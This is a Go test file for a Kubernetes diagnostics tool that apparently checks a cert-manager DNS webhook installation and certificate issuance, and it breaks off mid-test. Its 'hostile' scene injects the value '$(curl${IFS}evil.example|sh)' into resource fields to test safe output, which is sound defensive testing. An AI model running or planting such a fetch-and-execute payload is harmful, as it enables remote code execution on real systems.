package doctor

import (
	"bytes"
	"encoding/pem"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	acmev1 "github.com/cert-manager/cert-manager/pkg/apis/acme/v1"
	cmapi "github.com/cert-manager/cert-manager/pkg/apis/certmanager/v1"
	cmmeta "github.com/cert-manager/cert-manager/pkg/apis/meta/v1"
	"github.com/google/go-cmp/cmp"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	discoveryv1 "k8s.io/api/discovery/v1"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	apiregistrationv1 "k8s.io/kube-aggregator/pkg/apis/apiregistration/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/certyun/certyun/solvers/config"
	"github.com/certyun/certyun/solvers/credential"
	"github.com/certyun/certyun/solvers/fault"
)

const missingSecret = presenting + "the Secret shop/alidns does not exist; create it in the namespace of the Issuer (for a ClusterIssuer: the cluster resource namespace, cert-manager's own by default)"

// scenes are what the golden files show.
func scenes() map[string]func(*testing.T, *scene) (*Diagnosis, error) {
	return map[string]func(*testing.T, *scene) (*Diagnosis, error){
		"healthy": func(t *testing.T, s *scene) (*Diagnosis, error) { return s.doctor(t).Installation(t.Context()) },
		"broken": func(t *testing.T, s *scene) (*Diagnosis, error) {
			d := find[*appsv1.Deployment](t, s, "certyun-solver")
			d.Spec.Replicas, d.Status.ReadyReplicas = new(int32(0)), 0
			find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup).Status.Conditions[0] = apiregistrationv1.APIServiceCondition{
				Type: apiregistrationv1.Available, Status: apiregistrationv1.ConditionFalse, Reason: "MissingEndpoints",
				Message: `endpointslices for service/certyun-solver in "certyun" have no addresses with port name "https"`,
			}
			remove[*corev1.Secret](s, "alidns")
			return s.doctor(t).Installation(t.Context())
		},
		"forbidden": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.forbidden = []string{"*"}
			return s.doctor(t).Installation(t.Context())
		},
		"stuck": func(t *testing.T, s *scene) (*Diagnosis, error) {
			remove[*corev1.Secret](s, "alidns")
			s.issuance(t, missingSecret)
			return s.doctor(t).Certificate(t.Context(), "shop", "www")
		},
		"ready": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.ready(t)
			return s.doctor(t).Certificate(t.Context(), "shop", "www")
		},
		"hostile": func(t *testing.T, s *scene) (*Diagnosis, error) {
			const evil = "$(curl${IFS}evil.example|sh)"
			find[*cmapi.Issuer](t, s, "le").Spec.ACME.Solvers[0].DNS01.Webhook.GroupName = "acme." + evil
			s.issuance(t, refusal("alidns", "acme."+evil))
			other := find[*acmev1.Challenge](t, s, "www-1-1-1").DeepCopy()
			other.Name, other.UID, other.Spec.DNSName = "www-1-1-2", "www-1-1-2", evil
			other.Status.Reason = "the Secret " + evil + "/" + evil + " does not exist"
			seen := other.DeepCopy()
			seen.Name, seen.UID, seen.Status.Reason = "www-1-1-3", "www-1-1-3", "Could not find the SOA record in the DNS tree for the domain"
			s.add(other, seen)
			return s.doctor(t).Certificate(t.Context(), "shop", "www")
		},
		"viewer": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.looksOnly = true
			return s.doctor(t).Installation(t.Context())
		},
		"viewer-admission-off": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.looksOnly = true
			d := find[*appsv1.Deployment](t, s, "certyun-admission")
			d.Spec.Replicas, d.Status = new(int32(0)), appsv1.DeploymentStatus{}
			return s.doctor(t).Installation(t.Context())
		},
		"viewer-of-namespace": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.looksOnly, s.only = true, "certyun"
			return s.doctor(t).Installation(t.Context())
		},
		"viewer-certificate": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.looksOnly = true
			s.ready(t)
			find[*cmapi.Certificate](t, s, "www").Spec.IssuerRef = cmmeta.IssuerReference{Kind: "ClusterIssuer", Name: "ali", Group: "cert-manager.io"}
			return s.doctor(t).Certificate(t.Context(), "shop", "www")
		},
		"rollout": func(t *testing.T, s *scene) (*Diagnosis, error) {
			find[*appsv1.Deployment](t, s, "certyun-solver").Status = appsv1.DeploymentStatus{Replicas: 3, UpdatedReplicas: 1, ReadyReplicas: 2}
			s.waitingPod("solver", corev1.ContainerStateWaiting{Reason: "ImagePullBackOff", Message: `Back-off pulling image "registry.example/certyun:0.2.0"`})
			return s.doctor(t).Installation(t.Context())
		},
		"authority": func(t *testing.T, s *scene) (*Diagnosis, error) {
			remove[*corev1.Secret](s, "certyun-admission-ca")
			find[*appsv1.Deployment](t, s, "certyun-admission").Status.ReadyReplicas = 1
			s.waitingPod("admission", corev1.ContainerStateWaiting{}).Status.ContainerStatuses[0].State = corev1.ContainerState{}
			return s.doctor(t).Installation(t.Context())
		},
		"policy": func(t *testing.T, s *scene) (*Diagnosis, error) {
			find[*corev1.ConfigMap](t, s, "certyun-admission-policy").Data["policy.yaml"] += "rules: {no-such-rule: deny}\ncrossResource: never\n"
			return s.doctor(t).Installation(t.Context())
		},
		"lingering": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.deleted(t, refusal("alidns", testGroup))
			return s.doctor(t).Installation(t.Context())
		},
		"terminating": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.deleted(t, "error trying to reach service: dial tcp 10.96.0.103:8443: connect: connection refused")
			remove[*cmapi.Certificate](s, "www")
			namespace := find[*corev1.Namespace](t, s, "shop")
			namespace.DeletionTimestamp, namespace.Finalizers = new(metav1.NewTime(noon.Add(-time.Hour))), []string{"kubernetes"}
			return s.doctor(t).Certificate(t.Context(), "shop", "www")
		},
		"editors": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.certManagerIs(t, "v1.19.5")
			return s.doctor(t).Installation(t.Context())
		},
		"unserved": func(t *testing.T, s *scene) (*Diagnosis, error) {
			for _, name := range []string{"a", "b", "c"} {
				issuer := testIssuer("shop", name, `{"accesKeyIdRef":{}}`)
				issuer.Spec.ACME.Solvers[0].DNS01.Webhook.GroupName = "acme.two.internal"
				s.add(issuer)
			}
			return s.doctor(t).Installation(t.Context())
		},
		"uninstalled": func(t *testing.T, s *scene) (*Diagnosis, error) {
			remove[*apiregistrationv1.APIService](s, "v1alpha1."+testGroup)
			for _, name := range []string{"a", "b"} {
				s.add(testIssuer("mail", name, `{"accesKeyIdRef":{}}`))
			}
			return s.doctor(t).Installation(t.Context())
		},
		"ambient": func(t *testing.T, s *scene) (*Diagnosis, error) {
			mount(s.solverPod(rrsa()...), "sts.aliyuncs.com")
			s.clusterIssuer(alidnsName, `{}`)
			s.options.Provider, s.accounts = true, zonesOf{}
			return s.doctor(t).Issuer(t.Context(), "", "le")
		},
		"ambient-refused": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.issuerSays(t, `{}`)
			s.issuance(t, presenting+refusesAmbient(t, config.AmbientClusterIssuers, false, false, ""))
			return s.doctor(t).Certificate(t.Context(), "shop", "www")
		},
		"issuer": func(t *testing.T, s *scene) (*Diagnosis, error) {
			s.options.Provider = true
			s.accounts = zonesOf{zones: []string{"example.com"}, caller: credential.Caller{Account: "1234567890123456", ARN: "acs:ram::1234567890123456:user/certyun"}}
			return s.doctor(t).Issuer(t.Context(), "shop", "le")
		},
	}
}

const (
	holding      = presenting + "the record is visible, but the CA may still remember that the record was not there: it looked for another value of this name a moment ago; this is tried again, and goes on within the time of --ca-memory"
	refusedValue = "Error accepting authorization: acme: authorization error for www.example.com: 403 urn:ietf:params:acme:error:unauthorized: Correct value not found for DNS challenge"
)

// rival adds the Challenge for the wildcard, and has the CA refuse the other one.
func (s *scene) rival(t *testing.T, state acmev1.State) *acmev1.Challenge {
	t.Helper()
	failed := find[*acmev1.Challenge](t, s, "www-1-1-1")
	failed.Spec.Solver.WaitInsteadOfSelfCheck, failed.Status.State, failed.Status.Processing = &metav1.Duration{}, acmev1.Invalid, false
	other := failed.DeepCopy()
	other.Name, other.UID, other.Spec.Wildcard, other.Spec.Key = "www-1-1-2", "www-1-1-2", true, value
	other.Status = acmev1.ChallengeStatus{State: state}
	find[*acmev1.Order](t, s, "www-1-1").Status.State = acmev1.Invalid
	s.add(other)
	return other
}

// ready finishes the issuance.
func (s *scene) ready(t *testing.T) {
	t.Helper()
	s.issuance(t, "")
	remove[*acmev1.Challenge](s, "www-1-1-1")
	find[*acmev1.Order](t, s, "www-1-1").Status = acmev1.OrderStatus{State: acmev1.Valid}
	find[*cmapi.CertificateRequest](t, s, "www-1").Status.Conditions[1] = cmapi.CertificateRequestCondition{
		Type: cmapi.CertificateRequestConditionReady, Status: cmmeta.ConditionTrue, Reason: "Issued", Message: "Certificate fetched from issuer successfully",
	}
	expires, renewal := metav1.NewTime(noon.Add(80*24*time.Hour)), metav1.NewTime(noon.Add(50*24*time.Hour))
	find[*cmapi.Certificate](t, s, "www").Status = cmapi.CertificateStatus{
		NotAfter: &expires, RenewalTime: &renewal,
		Conditions: []cmapi.CertificateCondition{{Type: cmapi.CertificateConditionReady, Status: cmmeta.ConditionTrue, Message: "Certificate is up to date and has not expired"}},
	}
	_, leaf := authority(t, expires.Time)
	s.add(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "www-tls"}, Data: map[string][]byte{corev1.TLSCertKey: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: leaf})}})
}

func TestGenerated_Diagnoses(t *testing.T) {
	t.Parallel()
	for name, look := range scenes() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			found, err := look(t, healthy(t))
			if err != nil {
				t.Fatal(err)
			}
			var text, json bytes.Buffer
			if err := errors.Join(found.WriteText(&text, noon), found.WriteJSON(&json)); err != nil {
				t.Fatal(err)
			}
			golden(t, filepath.Join("testdata", name+".txt"), text.String())
			golden(t, filepath.Join("testdata", name+".json"), json.String())
			for _, secret := range []string{"averysecretsecret", "LTAI5tExampleExample1234"} {
				if strings.Contains(text.String()+json.String(), secret) {
					t.Errorf("it shows the key %s", secret)
				}
			}
		})
	}
}

// TestInstallation breaks one thing at a time.
func TestInstallation(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		damage           func(*testing.T, *scene)
		causes, warnings []string
	}{
		"nothing": {func(*testing.T, *scene) {}, nil, nil},
		"the solver has no Pod": {func(t *testing.T, s *scene) {
			find[*appsv1.Deployment](t, s, "certyun-solver").Status.ReadyReplicas = 0
		}, []string{"solver-not-running"}, nil},
		"the Service selects no Pod": {func(t *testing.T, s *scene) {
			find[*discoveryv1.EndpointSlice](t, s, "certyun-solver").Endpoints = nil
		}, []string{"solver-not-running"}, nil},
		"the API server does not reach the solver": {func(t *testing.T, s *scene) {
			find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup).Status.Conditions[0] = apiregistrationv1.APIServiceCondition{
				Type: apiregistrationv1.Available, Status: apiregistrationv1.ConditionFalse, Reason: "FailedDiscoveryCheck", Message: "failing or missing response: context deadline exceeded",
			}
		}, []string{"solver-not-running"}, nil},
		"the CA bundle is of another authority": {func(t *testing.T, s *scene) {
			find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup).Spec.CABundle, _ = authority(t, noon)
		}, []string{"apiservice-ca-wrong"}, nil},
		"the CA bundle is of another authority, and the API server says so": {func(t *testing.T, s *scene) {
			service := find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup)
			service.Spec.CABundle, _ = authority(t, noon)
			service.Status.Conditions[0] = apiregistrationv1.APIServiceCondition{
				Type: apiregistrationv1.Available, Status: apiregistrationv1.ConditionFalse, Message: "x509: certificate signed by unknown authority",
			}
		}, []string{"apiservice-ca-wrong"}, nil},
		"the API server does not trust what the solver served before": {func(t *testing.T, s *scene) {
			find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup).Status.Conditions[0] = apiregistrationv1.APIServiceCondition{
				Type: apiregistrationv1.Available, Status: apiregistrationv1.ConditionFalse, Message: "x509: certificate signed by unknown authority",
			}
		}, []string{"apiservice-ca-wrong"}, nil},
		"the CA bundle is not filled in": {func(t *testing.T, s *scene) {
			find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup).Spec.CABundle = nil
		}, []string{"apiservice-ca-wrong"}, nil},
		"the serving certificate has expired": {func(t *testing.T, s *scene) {
			service := find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup)
			var leaf []byte
			service.Spec.CABundle, leaf = authority(t, noon.Add(-time.Hour))
			s.served = [][]byte{leaf}
		}, []string{"serving-certificate-expired"}, nil},
		"the serving certificate expires tomorrow": {func(t *testing.T, s *scene) {
			service := find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup)
			var leaf []byte
			service.Spec.CABundle, leaf = authority(t, noon.Add(24*time.Hour))
			s.served = [][]byte{leaf}
		}, nil, []string{"serving-certificate-expires"}},
		"certyun is not installed": {func(_ *testing.T, s *scene) {
			remove[*apiregistrationv1.APIService](s, "v1alpha1."+testGroup)
			remove[*cmapi.Issuer](s, "le")
		}, []string{"apiservice-missing"}, nil},
		"an Issuer's group has a slip in it": {func(t *testing.T, s *scene) {
			find[*cmapi.Issuer](t, s, "le").Spec.ACME.Solvers[0].DNS01.Webhook.GroupName = "acme.certyum.internal"
		}, []string{"group-not-served"}, nil},
		"an Issuer's solver has a slip in it": {func(t *testing.T, s *scene) {
			find[*cmapi.Issuer](t, s, "le").Spec.ACME.Solvers[0].DNS01.Webhook.SolverName = "alydns"
		}, []string{"solver-unknown"}, nil},
		"somebody else's webhook": {func(t *testing.T, s *scene) {
			webhook := find[*cmapi.Issuer](t, s, "le").Spec.ACME.Solvers[0].DNS01.Webhook
			webhook.GroupName, webhook.SolverName = "acme.example.org", "hetzner"
		}, nil, nil},
		"the solver has no Pod, for it may not ask who calls": {func(t *testing.T, s *scene) {
			find[*appsv1.Deployment](t, s, "certyun-solver").Status.ReadyReplicas = 0
			s.denied = []string{"get configmaps"}
		}, []string{"delegation-missing", "solver-not-running"}, nil},
		"cert-manager may not create Orders": {func(_ *testing.T, s *scene) {
			s.denied = []string{"create orders"}
		}, []string{"cert-manager-not-allowed"}, nil},
		"nobody knows as whom cert-manager runs": {func(_ *testing.T, s *scene) {
			for _, part := range []string{"controller", "webhook", "cainjector"} {
				remove[*appsv1.Deployment](s, "cert-manager-"+part)
			}
			remove[*corev1.ServiceAccount](s, "cert-manager")
			s.denied = []string{"create orders", "create alidns"}
		}, nil, nil},
		"cert-manager may not call": {func(_ *testing.T, s *scene) {
			s.denied = []string{"create alidns"}
		}, []string{"caller-not-allowed"}, nil},
		"the solver may not read the Secret": {func(_ *testing.T, s *scene) {
			s.denied = []string{"get secrets"}
		}, []string{"secret-not-readable"}, nil},
		"the solver may not ask who calls": {func(_ *testing.T, s *scene) {
			s.denied = []string{"create subjectaccessreviews", "get configmaps"}
		}, []string{"delegation-missing", "delegation-missing"}, nil},
		"the solver may read neither Challenges nor Orders": {func(_ *testing.T, s *scene) {
			s.denied = []string{"list challenges", "list orders"}
		}, nil, []string{"challenges-not-readable", "challenges-not-readable"}},
		"the solver may not read Challenges": {func(_ *testing.T, s *scene) {
			s.denied = []string{"list challenges"}
		}, nil, []string{"challenges-not-readable"}},
		"the solver may not read Orders": {func(_ *testing.T, s *scene) {
			s.denied = []string{"list orders"}
		}, nil, []string{"challenges-not-readable"}},
		"the solver need not read Challenges": {func(t *testing.T, s *scene) {
			s.denied = []string{"list challenges", "list orders"}
			find[*appsv1.Deployment](t, s, "certyun-solver").Spec.Template.Spec.Containers = []corev1.Container{{Args: []string{"solver", "--ahead=0"}}}
		}, nil, nil},
		"the Secret is not there": {func(_ *testing.T, s *scene) {
			remove[*corev1.Secret](s, "alidns")
		}, []string{"secret-missing"}, nil},
		"the Secret is beside cert-manager": {func(t *testing.T, s *scene) {
			find[*corev1.Secret](t, s, "alidns").Namespace = "cert-manager"
		}, []string{"secret-in-wrong-namespace"}, nil},
		"the Secret lacks a key": {func(t *testing.T, s *scene) {
			delete(find[*corev1.Secret](t, s, "alidns").Data, "id")
		}, []string{"secret-key-wrong"}, nil},
		"a value has a line break inside": {func(t *testing.T, s *scene) {
			find[*corev1.Secret](t, s, "alidns").Data["id"] = []byte("LTAI5t\nabc")
		}, []string{"secret-key-wrong"}, nil},
		"a value has a line break at its end": {func(t *testing.T, s *scene) {
			find[*corev1.Secret](t, s, "alidns").Data["id"] = []byte("LTAI5tExampleExample1234\n")
		}, nil, []string{"secret-key-wrong"}},
		"the config has a slip in it": {func(t *testing.T, s *scene) {
			find[*cmapi.Issuer](t, s, "le").Spec.ACME.Solvers[0].DNS01.Webhook.Config = &apiextensionsv1.JSON{Raw: []byte(`{"accesKeyIdRef":{}}`)}
		}, []string{"config-wrong"}, nil},
		"the Issuer is not ready": {func(t *testing.T, s *scene) {
			find[*cmapi.Issuer](t, s, "le").Status.Conditions[0] = cmapi.IssuerCondition{
				Type: cmapi.IssuerConditionReady, Status: cmmeta.ConditionFalse, Message: "Failed to register ACME account: 429 urn:ietf:params:acme:error:rateLimited: too many new registrations",
			}
		}, []string{"acme-refused"}, nil},
		"nobody has looked at the Issuer for an hour": {func(t *testing.T, s *scene) {
			find[*cmapi.Issuer](t, s, "le").Status.Conditions = nil
		}, []string{"nothing-happens"}, nil},
		"cert-manager has no Pod": {func(t *testing.T, s *scene) {
			find[*appsv1.Deployment](t, s, "cert-manager-controller").Status.ReadyReplicas = 0
		}, []string{"cert-manager-not-running"}, nil},
		"a definition is missing": {func(_ *testing.T, s *scene) {
			remove[*apiextensionsv1.CustomResourceDefinition](s, "orders.acme.cert-manager.io")
		}, []string{"definitions-missing"}, nil},
		"the admission server has no Pod": {func(t *testing.T, s *scene) {
			find[*appsv1.Deployment](t, s, "certyun-admission").Status.ReadyReplicas = 0
		}, []string{"admission-not-asked"}, nil},
		"the webhook's CA bundle is not filled in": {func(t *testing.T, s *scene) {
			find[*admissionregistrationv1.ValidatingWebhookConfiguration](t, s, "certyun.certyun-admission").Webhooks[0].ClientConfig.CABundle = nil
		}, []string{"admission-not-asked"}, nil},
		"the webhook's Service is not there": {func(_ *testing.T, s *scene) {
			remove[*corev1.Service](s, "certyun-admission")
		}, []string{"admission-not-asked"}, nil},
		"the admission server lets everything through": {func(_ *testing.T, s *scene) {
			s.silentAdmission = true
		}, []string{"admission-not-asked"}, nil},
		"the solver's Service is not there": {func(t *testing.T, s *scene) {
			remove[*corev1.Service](s, "certyun-solver")
			find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup).Status.Conditions[0] = apiregistrationv1.APIServiceCondition{
				Type: apiregistrationv1.Available, Status: apiregistrationv1.ConditionFalse, Reason: "ServiceNotFound", Message: `service/certyun-solver in "certyun" is not present`,
			}
		}, []string{"solver-not-running"}, nil},
		"the APIService names another port, and its CA bundle is stale as well": {func(t *testing.T, s *scene) {
			service := find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup)
			service.Spec.CABundle, _ = authority(t, noon)
			service.Status.Conditions[0] = apiregistrationv1.APIServiceCondition{
				Type: apiregistrationv1.Available, Status: apiregistrationv1.ConditionFalse, Reason: "FailedDiscoveryCheck", Message: "dial tcp 10.0.0.7:1: connect: connection refused",
			}
		}, []string{"solver-not-running", "apiservice-ca-wrong"}, nil},
		"the serving certificate is of another Service": {func(t *testing.T, s *scene) {
			service := find[*apiregistrationv1.APIService](t, s, "v1alpha1."+testGroup)
			service.Spec.Service.Name = "certyun-admission"
		}, []string{"serving-certificate-name-wrong"}, nil},
		"the clock is a year behind": {func(_ *testing.T, s *scene) {
			s.now = func() time.Time { return noon.Add(-366 * 24 * time.Hour) }
		}, []string{"serving-certificate-not-yet-valid"}, nil},
		"a definition is of an old version": {func(t *testing.T, s *scene) {
			find[*apiextensionsv1.CustomResourceDefinition](t, s, "orders.acme.cert-manager.io").Spec.Versions = []apiextensionsv1.CustomResourceDefinitionVersion{
				{Name: "v1alpha2", Served: true}, {Name: "v1", Served: false},
			}
		}, []string{"definitions-missing"}, nil},
		"cert-manager's webhook is away, while certyun's answers": {func(_ *testing.T, s *scene) {
			s.refuses = errors.New(`Internal error occurred: failed calling webhook "webhook.cert-manager.io": failed to call webhook: connection refused`)
		}, []string{"cert-manager-webhook-down"}, nil},
		"the halves of an access key are swapped": {func(t *testing.T, s *scene) {
			data := find[*corev1.Secret](t, s, "alidns").Data
			data["id"], data["secret"] = data["secret"], data["id"]
		}, []string{"access-key-swapped"}, nil},
		"certyun was uninstalled, and an Issuer is left": {func(_ *testing.T, s *scene) {
			remove[*apiregistrationv1.APIService](s, "v1alpha1."+testGroup)
		}, []string{"apiservice-missing"}, nil},
		"a Challenge cannot be cleaned up": {func(t *testing.T, s *scene) {
			s.deleted(t, "Error cleaning up challenge: something new")
		}, []string{"challenge-lingers"}, nil},
		"no Pod of the admission server starts without its authority": {func(t *testing.T, s *scene) {
			remove[*corev1.Secret](s, "certyun-admission-ca")
			find[*appsv1.Deployment](t, s, "certyun-admission").Status.ReadyReplicas = 0
		}, []string{"admission-authority-missing"}, nil},
		"the authority is gone while all Pods have it in their memory": {func(_ *testing.T, s *scene) {
			remove[*corev1.Secret](s, "certyun-admission-ca")
		}, nil, []string{"admission-authority-missing"}},
		"the admission server is scaled to nothing, and its authority is gone as well": {func(t *testing.T, s *scene) {
			remove[*corev1.Secret](s, "certyun-admission-ca")
			d := find[*appsv1.Deployment](t, s, "certyun-admission")
			d.Spec.Replicas, d.Status = new(int32(0)), appsv1.DeploymentStatus{}
		}, []string{"admission-not-asked"}, []string{"admission-authority-missing"}},
		"the policy names a rule that there is not": {func(t *testing.T, s *scene) {
			find[*corev1.ConfigMap](t, s, "certyun-admission-policy").Data["policy.yaml"] += "rules: {no-such-rule: deny}\n"
		}, []string{"policy-unusable"}, nil},
		"the policy is under another key": {func(t *testing.T, s *scene) {
			policy := find[*corev1.ConfigMap](t, s, "certyun-admission-policy")
			policy.Data = map[string]string{"other.yaml": policy.Data["policy.yaml"]}
		}, []string{"policy-unusable"}, nil},
		"the policy is under another key, which the volume names": {func(t *testing.T, s *scene) {
			policy := find[*corev1.ConfigMap](t, s, "certyun-admission-policy")
			policy.Data = map[string]string{"other.yaml": policy.Data["policy.yaml"]}
			find[*appsv1.Deployment](t, s, "certyun-admission").Spec.Template.Spec.Volumes[0].ConfigMap.Items = []corev1.KeyToPath{{Key: "other.yaml", Path: "policy.yaml"}}
		}, nil, nil},
		"the policy is not there": {func(_ *testing.T, s *scene) {
			remove[*corev1.ConfigMap](s, "certyun-admission-policy")
		}, []string{"policy-unusable"}, nil},
		"the policy is in a file of its own": {func(t *testing.T, s *scene) {
			d := find[*appsv1.Deployment](t, s, "certyun-admission")
			d.Spec.Template.Spec.Containers[0].VolumeMounts[0] = corev1.VolumeMount{Name: "policy", MountPath: "/etc/certyun/policy/policy.yaml", SubPath: "policy.yaml"}
			find[*corev1.ConfigMap](t, s, "certyun-admission-policy").Data["policy.yaml"] += "noSkip: []\n"
		}, []string{"policy-unusable"}, nil},
		"there is no policy": {func(t *testing.T, s *scene) {
			d := find[*appsv1.Deployment](t, s, "certyun-admission")
			d.Spec.Template.Spec.Containers[0].Args, d.Spec.Template.Spec.Volumes = nil, nil
		}, nil, nil},
		"a new Pod is of this moment": {func(t *testing.T, s *scene) {
			find[*appsv1.Deployment](t, s, "certyun-solver").Status = appsv1.DeploymentStatus{Replicas: 3, UpdatedReplicas: 1, ReadyReplicas: 2}
			s.waitingPod("solver", corev1.ContainerStateWaiting{Reason: "ErrImagePull"}).CreationTimestamp = metav1.NewTime(noon.Add(-time.Second))
		}, nil, nil},
		"a Pod that is not ready is about to go": {func(t *testing.T, s *scene) {
			find[*appsv1.Deployment](t, s, "certyun-solver").Status.Replicas = 3
			pod := s.waitingPod("solver", corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"})
			pod.DeletionTimestamp, pod.Finalizers = new(metav1.NewTime(noon)), []string{"a/b"}
		}, nil, nil},
		"one of two Pods has no node": {func(t *testing.T, s *scene) {
			find[*appsv1.Deployment](t, s, "certyun-admission").Status.ReadyReplicas = 1
			s.waitingPod("admission", corev1.ContainerStateWaiting{}).Status = corev1.PodStatus{Conditions: []corev1.PodCondition{{
				Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Message: "0/1 nodes are available",
			}}}
		}, nil, []string{"pods-not-ready"}},
		"cert-manager's rollout does not go on, and nobody may see Pods": {func(t *testing.T, s *scene) {
			s.forbidden = []string{"pods"}
			find[*appsv1.Deployment](t, s, "cert-manager-controller").Status = appsv1.DeploymentStatus{
				Replicas: 2, UpdatedReplicas: 1, ReadyReplicas: 1,
				Conditions: []appsv1.DeploymentCondition{{Type: appsv1.DeploymentProgressing, Status: corev1.ConditionFalse, Message: `ReplicaSet "x" has timed out progressing.`}},
			}
		}, nil, []string{"pods-not-ready"}},
		"a user with the role view, and the solver has no Pod": {func(t *testing.T, s *scene) {
			s.looksOnly = true
			find[*appsv1.Deployment](t, s, "certyun-solver").Status.ReadyReplicas = 0
		}, []string{"solver-not-running"}, nil},
		"a user with the role view, and no Service leads to the admission server": {func(_ *testing.T, s *scene) {
			s.looksOnly = true
			remove[*corev1.Service](s, "certyun-admission")
		}, []string{"admission-not-asked"}, nil},
		"a user with the role view, and the Service of the solver leads nowhere": {func(t *testing.T, s *scene) {
			s.looksOnly = true
			find[*discoveryv1.EndpointSlice](t, s, "certyun-solver").Endpoints = nil
		}, []string{"solver-not-running"}, nil},
		"a user with the role view, and the policy has a mistake": {func(t *testing.T, s *scene) {
			s.looksOnly = true
			find[*corev1.ConfigMap](t, s, "certyun-admission-policy").Data["policy.yaml"] = "rules: []"
		}, []string{"policy-unusable"}, nil},
		"cert-manager lets editors create Challenges": {func(t *testing.T, s *scene) {
			s.certManagerIs(t, "v1.20.2")
		}, nil, []string{"editors-create-challenges"}},
		"cert-manager lets editors create Challenges, and a policy does not": {func(t *testing.T, s *scene) {
			s.certManagerIs(t, "v1.20.2")
			s.challengePolicy(admissionregistrationv1.Deny)
		}, nil, nil},
		"cert-manager lets editors create Challenges, and a policy only warns": {func(t *testing.T, s *scene) {
			s.certManagerIs(t, "v1.20.2")
			s.challengePolicy(admissionregistrationv1.Warn)
		}, nil, []string{"editors-create-challenges"}},
		"cert-manager lets editors create Challenges, and the user may see no policy": {func(t *testing.T, s *scene) {
			s.certManagerIs(t, "v1.18.0")
			s.challengePolicy(admissionregistrationv1.Deny)
			s.forbidden = []string{"validatingadmissionpolicies"}
		}, nil, []string{"editors-create-challenges"}},
		"the webhook's CA bundle cannot be filled in without the authority": {func(t *testing.T, s *scene) {
			remove[*corev1.Secret](s, "certyun-admission-ca")
			find[*admissionregistrationv1.ValidatingWebhookConfiguration](t, s, "certyun.certyun-admission").Webhooks[0].ClientConfig.CABundle = nil
		}, []string{"admission-not-asked"}, []string{"admission-authority-missing"}},
		"a Challenge was deleted a minute ago": {func(t *testing.T, s *scene) {
			s.deleted(t, "the server is currently unable to handle the request (post alidns.acme.certyun.internal)").DeletionTimestamp.Time = noon.Add(-time.Minute)
		}, nil, nil},
		"there is no admission server": {func(_ *testing.T, s *scene) {
			remove[*admissionregistrationv1.ValidatingWebhookConfiguration](s, "certyun.certyun-admission")
		}, nil, nil},
		"the account does not have the key": {func(_ *testing.T, s *scene) {
			s.options.Provider = true
			s.accounts = zonesOf{err: &fault.Error{Kind: fault.CredentialGone, Reason: "the AccessKey ID does not exist", Code: "InvalidAccessKeyId.NotFound"}}
		}, []string{"access-key-unknown"}, nil},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := healthy(t)
			test.damage(t, s)
			found, err := s.doctor(t).Installation(t.Context())
			if err != nil {
				t.Fatal(err)
			}
			checkFilled(t, found)
			if diff := cmp.Diff([][]string{test.causes, test.warnings}, [][]string{ids(found.Causes), ids(found.Warnings)}); diff != "" {
				t.Errorf("causes and warnings (-want +got):\n%s\n%v", diff, found.Checks)
			}
			if want := len(test.causes) > 0; found.Wrong() != want {
				t.Errorf("wrong = %t, want %t", found.Wrong(), want)
			}
		})
	}
}

// TestCertificate breaks one thing on the way to a certificate at a time.
func TestCertificate(t *testing.T) {
	t.Parallel()
	certificate := func(t *testing.T, s *scene) *cmapi.Certificate {
		t.Helper()
		return find[*cmapi.Certificate](t, s, "www")
	}
	challenge := func(t *testing.T, s *scene) *acmev1.Challenge {
		t.Helper()
		return find[*acmev1.Challenge](t, s, "www-1-1-1")
	}
	upToOrder := func(t *testing.T, s *scene) *acmev1.Order {
		t.Helper()
		remove[*acmev1.Challenge](s, "www-1-1-1")
		return find[*acmev1.Order](t, s, "www-1-1")
	}
	upToRequest := func(t *testing.T, s *scene) *cmapi.CertificateRequest {
		t.Helper()
		upToOrder(t, s)
		remove[*acmev1.Order](s, "www-1-1")
		return find[*cmapi.CertificateRequest](t, s, "www-1")
	}
	tests := map[string]struct {
		reason string
		damage func(*testing.T, *scene)
		state  State
		causes []string
	}{
		"the Challenge complains about a Secret that is there by now": {missingSecret, func(*testing.T, *scene) {}, Stuck, []string{"challenge-behind"}},
		"the Challenge complains about a solver that is back":         {"the server is currently unable to handle the request (post alidns.acme.certyun.internal)", func(*testing.T, *scene) {}, Stuck, []string{"challenge-behind"}},
		"the solver is back, and the user may see no Issuer": {
			"the server is currently unable to handle the request (post alidns.acme.certyun.internal)",
			func(_ *testing.T, s *scene) { s.forbidden = []string{"issuers"} }, Stuck,
			[]string{"challenge-behind"},
		},
		"it is signed, and its keystore has no password": {"", func(t *testing.T, s *scene) {
